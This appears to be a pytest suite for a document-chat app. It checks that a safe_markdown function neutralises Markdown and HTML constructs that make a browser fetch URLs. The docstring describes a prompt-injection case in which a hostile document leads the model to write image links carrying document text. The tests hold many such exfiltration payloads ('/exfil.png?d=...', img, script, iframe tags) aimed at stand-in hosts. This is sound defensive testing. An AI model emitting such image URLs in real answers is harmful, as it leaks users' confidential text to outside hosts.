"""Nothing in a page fetches what the user did not ask for (issue #12, item 3).

A hostile document can make the model write a Markdown image whose URL carries document text;
rendered as-is, every browser that opens the session would send that text to the URL's host.
These tests drive the real app in Debian's chromium against a listener that records every
request it receives: the hostile answer, file name, question and server messages are shown,
exported, reloaded and reopened, and the listener must stay silent while the page talks to no
host but the app itself. The unit tests pin `safe_markdown`, the one function that makes
untrusted text safe to render."""

from __future__ import annotations

import textwrap
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sparkdocs.safe_text import fetching_constructs, safe_markdown

# --------------------------------------------------------------------------------------------
# The listener: a host that is not the app, recording every request a page makes to it.


class Listener:
    """An HTTP server on its own port that answers every request with a 1x1 GIF and records
    it, so a test can see whether any page (or exported file) fetched from it."""

    GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00"
           b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")

    def __init__(self) -> None:
        self.requests: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                listener.requests.append(f"GET {self.path}")
                if not self.path.startswith("/"):  # a proxied request: refuse it plainly
                    self.send_response(404)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(Listener.GIF)))
                self.end_headers()
                self.wfile.write(Listener.GIF)

            do_POST = do_GET

            def do_CONNECT(self) -> None:  # HTTPS through a proxy
                listener.requests.append(f"CONNECT {self.path}")
                self.send_response(403)
                self.send_header("Content-Length", "0")
                self.end_headers()

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def as_proxy(self) -> dict[str, str]:
        """Environment that sends a process's outbound HTTP(S) to this listener (requests,
        httpx and urllib all honour it), the app's own loopback traffic excepted."""
        proxy = f"http://127.0.0.1:{self.port}"
        return {"HTTP_PROXY": proxy, "HTTPS_PROXY": proxy, "http_proxy": proxy,
                "https_proxy": proxy, "NO_PROXY": "127.0.0.1,localhost",
                "no_proxy": "127.0.0.1,localhost"}

    def __enter__(self) -> Listener:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as server:
        yield server


def _hostile(listener: Listener, tag: str) -> str:
    """Every way Markdown can make a browser fetch a URL, each URL carrying `tag`."""
    return (f"![x]({listener.url(f'/exfil.png?d={tag}-IMAGE')}) "
            f"<img src=\"{listener.url(f'/raw.png?d={tag}-RAW')}\"> "
            f"![ref][r{tag}] <{listener.url(f'/auto.png?d={tag}-AUTOLINK')}> "
            f"[a link]({listener.url(f'/link?d={tag}-LINK')})\n\n"
            f"[r{tag}]: {listener.url(f'/ref.png?d={tag}-REFERENCE')}\n")


# --------------------------------------------------------------------------------------------
# The real app in a real browser.

def _watch(context, app_url: str) -> list[str]:
    """Every request any page of the browser context makes to a host other than the app."""
    foreign: list[str] = []

    def record(request) -> None:
        url = request.url
        if url.startswith(("data:", "blob:", app_url)):
            return
        foreign.append(url)

    context.on("request", record)
    return foreign


@pytest.fixture
def hostile_app(listener: Listener, tmp_path: Path) -> Iterator[str]:
    """The app against the fake server, whose answer is every fetching construct at once,
    streamed word by word so half-written Markdown is rendered too."""
    from fakeserver import FakeServer
    from test_e2e_browser import running_app

    with FakeServer() as server:
        server.behaviour.answer = "The term is thirty days. " + _hostile(listener, "ANSWER")
        server.behaviour.token_delay_s = 0.02
        with running_app(server.base_url, tmp_path, SPARKDOCS_ANSWER_TOKENS="200",
                         **listener.as_proxy()) as url:  # the server's own requests too
            yield url


@pytest.mark.e2e
def test_hostile_answer_name_and_question_fetch_nothing(hostile_app, listener, tmp_path,
                                                       artifacts_dir):
    from playwright.sync_api import expect, sync_playwright
    from test_e2e_browser import CHROMIUM_ARGS

    name = f"terms ![n]({listener.url('/name.png?d=NAME-SECRET')}) <img src=x>.md"
    body = ("# Terms ![h](" + listener.url("/heading.png?d=HEADING-SECRET") + ")\n\n"
            "CONFIDENTIAL: the supplier delivers within thirty days.\n")
    question = "What is the term? " + _hostile(listener, "QUESTION").replace("\n", " ")
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", headless=True,
                                    args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1400, "height": 1000},
                                      accept_downloads=True)
        foreign = _watch(context, hostile_app)
        page = context.new_page()
        page.goto(hostile_app)
        page.locator("input[type=file]").first.set_input_files(
            files=[{"name": name, "mimeType": "text/markdown", "buffer": body.encode()}])
        expect(page.get_by_text(" · text · ")).to_be_visible(timeout=60_000)

        box = page.get_by_placeholder("Ask about the document")
        box.fill(question)
        box.press("Enter")
        expect(page.get_by_text("first token")).to_have_count(1, timeout=60_000)
        page.wait_for_timeout(1000)  # let any image the answer produced start loading
        page.screenshot(path=str(artifacts_dir / "no-fetch-01-answer.png"), full_page=True)
        answer = page.locator('[data-testid="stChatMessage"]').nth(1)
        answer_text = answer.inner_text()
        image_links = answer.locator('a[href*="ANSWER-IMAGE"]').count()  # a link to choose

        with page.expect_download() as download_info:
            page.get_by_role("button", name="Export session (Markdown)").click()
        exported = Path(download_info.value.path()).read_text(encoding="utf-8")
        # Opened in a Markdown viewer (CommonMark with raw HTML on, as most viewers render it):
        viewer = context.new_page()
        viewer.set_content(MarkdownIt("commonmark").enable(["table", "strikethrough"])
                           .render(exported))
        viewer.wait_for_timeout(500)
        viewer.close()

        page.reload()  # the stored session, rendered by show_turn
        expect(page.get_by_text("first token")).to_have_count(1, timeout=60_000)
        page.locator('[data-testid="stSidebar"] [data-testid="stSelectbox"]').click()
        page.wait_for_timeout(500)  # the reopen list, showing the stored document's name
        page.keyboard.press("Escape")

        page.get_by_role("link", name="Library").click()
        expect(page.get_by_text("session(s)")).to_be_visible(timeout=30_000)
        page.get_by_text("session(s)").click()  # expand: names, titles, session list
        page.wait_for_timeout(1000)
        page.screenshot(path=str(artifacts_dir / "no-fetch-02-library.png"), full_page=True)
        page.get_by_role("button", name="Open", exact=True).last.click()  # reopen the session
        expect(page.get_by_text("first token")).to_have_count(1, timeout=60_000)
        page.wait_for_timeout(1000)

        page.get_by_role("link", name="Server").click()
        expect(page.get_by_text("Prefix-cache hit rate")).to_be_visible(timeout=30_000)
        page.wait_for_timeout(1000)
        browser.close()
    assert listener.requests == [], sorted(set(listener.requests))
    assert foreign == [], sorted(set(foreign))
    assert "thirty days" in answer_text and "ANSWER-RAW" in answer_text  # tags shown as text
    assert image_links == 1  # the image became a link the user may choose to open
    assert "ANSWER-IMAGE" in exported and "QUESTION-IMAGE" in exported
    assert fetching_constructs(exported, keep_tags={"sub"}) == []


@pytest.fixture
def hostile_server_app(listener: Listener, tmp_path: Path) -> Iterator[str]:
    """The app against a server whose model names and errors carry image Markdown."""
    from fakeserver import FakeServer
    from test_e2e_browser import running_app

    with FakeServer() as server:
        server.behaviour.model = "evil ![m](" + listener.url("/model.png?d=MODEL-SECRET") + ")"
        with running_app(server.base_url, tmp_path,
                         SPARKDOCS_MODEL="nvidia/Llama-3.3-70B-Instruct-FP8",
                         **listener.as_proxy()) as url:
            yield url


@pytest.mark.e2e
def test_hostile_server_messages_fetch_nothing(hostile_server_app, listener, artifacts_dir):
    from playwright.sync_api import expect, sync_playwright
    from test_e2e_browser import CHROMIUM_ARGS

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", headless=True,
                                    args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        foreign = _watch(context, hostile_server_app)
        page = context.new_page()
        page.goto(hostile_server_app)
        page.get_by_role("link", name="Server").click()
        expect(page.get_by_text("is not served")).to_be_visible(timeout=60_000)
        page.get_by_role("button", name="Run all checks (sends one tiny request)").click()
        page.wait_for_timeout(3000)
        page.screenshot(path=str(artifacts_dir / "no-fetch-03-server.png"), full_page=True)
        model_links = page.locator('a[href*="MODEL-SECRET"]').count()  # links, not images
        browser.close()
    assert listener.requests == [], sorted(set(listener.requests))
    assert foreign == [], sorted(set(foreign))
    assert model_links >= 2  # the metric and the warning show the name, its image as a link


def _rendered_texts(at) -> list[str]:
    """Every string an AppTest run hands to Streamlit as Markdown: bodies, captions, headings,
    alerts, expander labels, metric labels and values."""
    texts = [e.value for kind in ("markdown", "caption", "title", "header", "subheader",
                                  "warning", "error", "info", "success")
             for e in getattr(at, kind)]
    texts += [e.label for e in at.expander]
    texts += [str(m.value) for m in at.metric] + [m.label for m in at.metric]
    return texts


@pytest.mark.integration
def test_every_text_the_app_renders_is_safe(monkeypatch, tmp_path):
    """The cheap tier's guard on the wiring: through AppTest, with a hostile answer, file name,
    question and model name, nothing the pages render holds an image, raw HTML or an autolink,
    while the hostile text itself is shown."""
    import streamlit
    from fakeserver import FakeServer
    from streamlit.testing.v1 import AppTest

    app = str(Path(__file__).resolve().parent.parent / "app.py")
    image = "![x](http://198.51.100.7/x.png?d=SECRET)"
    with FakeServer() as server:
        server.behaviour.answer = f"Thirty days. {image} <img src=http://198.51.100.7/SECRET.png>"
        server.behaviour.model = f"evil {image}"
        for name, value in {"SPARKDOCS_BASE_URL": server.base_url,
                            "SPARKDOCS_CACHE_DIR": str(tmp_path / "cache"),
                            "SPARKDOCS_CONTEXT_LENGTH": "6000", "SPARKDOCS_ANSWER_TOKENS": "48",
                            "SPARKDOCS_MAX_RETRIES": "0"}.items():
            monkeypatch.setenv(name, value)
        streamlit.cache_resource.clear()  # services are per process: rebuild them from this env
        try:
            at = AppTest.from_file(app, default_timeout=60).run()
            at.sidebar.file_uploader[0].set_value(
                (f"terms {image}.md", b"# Terms\nThirty days.", "text/markdown")).run()
            at.chat_input[0].set_value(f"What is the term? {image}").run()
            assert not at.exception
            texts = _rendered_texts(at)
            at.switch_page("pages/library.py").run()
            texts += _rendered_texts(at)
            at.switch_page("pages/server.py").run()
            checks = [b for b in at.button if b.label.startswith("Run all checks")]
            checks[0].click().run()
            assert not at.exception
            texts += _rendered_texts(at)
        finally:
            streamlit.cache_resource.clear()
    unsafe = {text: fetching_constructs(text) for text in texts if fetching_constructs(text)}
    assert unsafe == {}
    shown = "\n".join(texts)
    assert shown.count("SECRET") >= 6  # name, question, answer (twice), model, library


@pytest.mark.integration
def test_server_makes_no_outbound_request_as_in_the_container(listener, tmp_path):
    """Started as the Docker image starts it (all interfaces, headless), Streamlit would look up
    the machine's public address over HTTP for its start-up banner; the config turns that off.
    Every outbound HTTP(S) request of the server process goes to the listener as its proxy."""
    import os
    import subprocess
    import sys
    import time

    from sparkdocs.local_model import free_port

    port = free_port()
    env = {**os.environ, **listener.as_proxy(), "SPARKDOCS_CACHE_DIR": str(tmp_path / "cache"),
           "SPARKDOCS_BASE_URL": "http://127.0.0.1:9/v1"}
    root = Path(__file__).resolve().parent.parent
    with (tmp_path / "streamlit.log").open("wb") as log:
        process = subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", str(root / "app.py"), "--server.port",
             str(port), "--server.address", "0.0.0.0", "--server.headless", "true"],
            cwd=root, env=env, stdout=log, stderr=subprocess.STDOUT)
        try:
            from test_e2e_browser import wait_for_streamlit

            wait_for_streamlit(f"http://127.0.0.1:{port}", process, tmp_path / "streamlit.log")
            time.sleep(2)  # the banner is printed just after the server starts listening
        finally:
            process.terminate()
            process.wait(timeout=20)
    assert listener.requests == [], sorted(set(listener.requests))


# --------------------------------------------------------------------------------------------
# safe_markdown itself.

URL = "http://198.51.100.7/x.png?d=SECRET"
FETCHING = [
    f"![x]({URL})",
    f"![x]({URL} \"title\")",
    f"![x](<{URL}>)",
    f"![x][r]\n\n[r]: {URL}",
    f"![r]\n\n[r]: {URL}",
    f"![r][]\n\n[r]: {URL}",
    f"<img src=\"{URL}\">",
    "<IMG SRC=http://198.51.100.7/SECRET.png>",
    f"<img\nsrc='{URL}'>",
    f"<div>\n<img src=\"{URL}\">\n</div>",
    "<!-- comment --><img src=http://198.51.100.7/SECRET.png>",
    f"<picture><source srcset=\"{URL}\"></picture>",
    f"<video poster=\"{URL}\"></video>",
    f"<iframe src=\"{URL}\"></iframe>",
    f"<link rel=stylesheet href=\"{URL}\">",
    f"<style>@import url({URL})</style>",
    f"<script src=\"{URL}\"></script>",
    f"<svg><image href=\"{URL}\"/></svg>",
    f"<{URL}>",
    f"> quoted ![x]({URL})",
    f"- item ![x]({URL})",
    f"| a | b |\n| - | - |\n| `x | ![x]({URL}) | y` |",
    f"# heading `x\n![x]({URL}) `",
    f"`unclosed ![x]({URL})",
    f"\\\\![x]({URL})",
    f"[![x]({URL})](http://example.com/)",
    f"**![x]({URL})**",
    f"~~~\ncode\n~~~\n![x]({URL})",
    f"```\ncode\n````\n![x]({URL})",
    f"    indented code\n![x]({URL})",
]


@pytest.mark.parametrize("text", FETCHING)
def test_every_fetching_construct_is_found_then_neutralised(text):
    assert fetching_constructs(text), "the checker must see the construct in the raw text"
    safe = safe_markdown(text)
    assert fetching_constructs(safe) == []
    assert "SECRET" in safe  # shown to the user as text, not dropped


@pytest.mark.parametrize("text", [
    "Plain **bold**, _italic_, `code`, [a link](http://example.com/) and http://example.com/.",
    "| a | b |\n| --- | --- |\n| 1 | 2 |",
    "```cpp\ntemplate <typename T> T f();\nauto v = vec![1, 2];\n```",
    "Use `std::vector<int>` and `vec![1]` here.",
    "- one\n- two\n  1. nested",
    "> quoted\n\n# Heading",
    "a \\< b and c \\![not an image]",
    ("1. Build it:\n\n    ```rust\n    let v = vec![1];\n    fn f<T>() {}\n    ```\n"
     "2. Run `cargo test -- <name>`."),
    "> ```html\n> <img src=\"a.png\">\n> ```",
])
def test_ordinary_markdown_is_unchanged(text):
    assert safe_markdown(text) == text


@pytest.mark.parametrize("text", [f"    ![x]({URL})", f"\n\n    <img src=\"{URL}\">\n    more"])
def test_text_is_judged_as_streamlit_renders_it(text):
    """Streamlit dedents and strips what it renders: an indented code block becomes live."""
    safe = safe_markdown(text)
    assert textwrap.dedent(safe).strip() == safe
    assert fetching_constructs(textwrap.dedent(safe).strip()) == []


def test_images_become_visible_text_and_tags_literal():
    rendered = MarkdownIt("commonmark").render(safe_markdown(f"see ![chart]({URL}) <b>now</b>"))
    assert "<img" not in rendered and "&lt;b&gt;now&lt;/b&gt;" in rendered
    assert "chart" in rendered and "SECRET" in rendered


def test_kept_tags_survive_without_attributes():
    text = "<sub>first token 1.0 s</sub> <sub onload=x>no</sub>"
    assert safe_markdown(text, keep_tags={"sub"}).startswith("<sub>first token 1.0 s</sub> \\<sub")


markdown_alphabet = st.text(alphabet="![]()<>`~\\ \n\t:/*_-|#>&;abc1=\"'", max_size=60)


@hypothesis_settings(max_examples=400, deadline=None)
@given(markdown_alphabet)
def test_any_text_comes_out_safe_and_idempotent(text):
    safe = safe_markdown(text)
    assert fetching_constructs(safe) == []
    assert safe_markdown(safe) == safe
    assert textwrap.dedent(safe).strip() == safe  # what Streamlit renders is what was checked


@hypothesis_settings(max_examples=200, deadline=None)
@given(st.lists(markdown_alphabet, max_size=6))
def test_every_prefix_of_a_stream_is_safe(chunks):
    """The answer streams in: each half-written text is rendered, so each must be safe."""
    text = ""
    for chunk in chunks:
        text += chunk
        assert fetching_constructs(safe_markdown(text)) == []


def test_safe_text_is_pure():
    """Part of the pure core (no network, disk, UI or environment), like documents and prompts:
    the CLI, the export and the pages can all use it."""
    from test_architecture import FORBIDDEN, PACKAGE, _imports

    path = PACKAGE / "safe_text.py"
    names = _imports(path)
    assert not {n for n in names if n.split(".")[0] in FORBIDDEN or n in FORBIDDEN}
    assert "os.environ" not in path.read_text()
